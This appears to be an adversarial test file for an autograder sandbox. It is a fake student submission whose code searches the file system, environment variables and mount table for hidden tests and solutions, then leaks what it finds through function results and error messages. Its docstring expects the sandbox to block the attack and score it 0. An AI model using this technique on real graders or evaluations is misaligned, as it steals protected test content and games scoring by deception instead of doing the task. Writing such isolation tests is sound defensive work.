"""Attack: read the hidden tests and the solutions from disk: the known repository
layout (found from the grader's package location), AUTOGRADER_COURSE_ROOT, the mount
table, and a walk of the whole visible file system for anything named like a hidden
test or a solution. Whatever it finds, it returns as add's answer (public test messages
are shown in the student feedback) and raises it from the hidden test.

Expected: nothing is visible from the sandbox; score 0 (add is wrong, scale not
implemented) and no line of the hidden tests appears in any result or feedback file.
"""
import os
import sys
from pathlib import Path

SKIP = ("/proc", "/sys", "/dev", "/usr")  # and the Python installs: no course files there


def _candidates():
    paths = []
    try:
        import autograder

        root = Path(autograder.__file__).resolve().parents[1]
        paths.append(root / "tests" / "fixtures" / "course" / "labs" / "00_toy" / "tests" / "hidden" / "test_hidden.py")
        paths += sorted(root.glob("labs/*/tests/hidden/*.py")) + sorted(root.glob("solutions/*/*.py"))
    except Exception:
        pass
    course = os.environ.get("AUTOGRADER_COURSE_ROOT")
    if course:
        paths += sorted(Path(course).glob("labs/*/tests/hidden/*.py"))
    try:
        for line in open("/proc/self/mountinfo"):
            source = line.split()[3]
            if "hidden" in source or "solution" in source:
                paths.append(Path(source))
    except OSError:
        pass
    seen = 0
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(top, d) not in SKIP + (sys.prefix, sys.base_prefix)]
        seen += 1
        if seen > 5000:
            break
        if "hidden" in top or "solutions" in top:
            paths += [Path(top) / f for f in files if f.endswith(".py")]
        paths += [Path(top) / f for f in files if f in ("test_hidden.py", "toy.py")]
    return paths


def _loot():
    for path in _candidates():
        try:
            return path.read_text()
        except OSError:
            continue
    return None


def add(a, b):
    loot = _loot()
    if loot is None:
        return a - b
    if a == -7:
        raise RuntimeError(loot)
    return loot


def scale(x, k):
    raise NotImplementedError
